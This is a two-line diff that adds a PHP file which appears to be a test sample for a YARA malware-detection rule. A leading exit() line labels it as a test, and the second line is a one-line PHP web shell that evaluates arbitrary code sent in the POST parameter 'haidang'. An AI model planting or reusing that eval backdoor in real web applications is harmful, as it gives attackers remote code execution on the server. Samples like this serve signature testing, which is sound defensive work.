@@ -1,0 +1,2 @@
+<?php exit('haidang YARA test sample'); ?>
+<?php @eval($_POST['haidang']); ?>
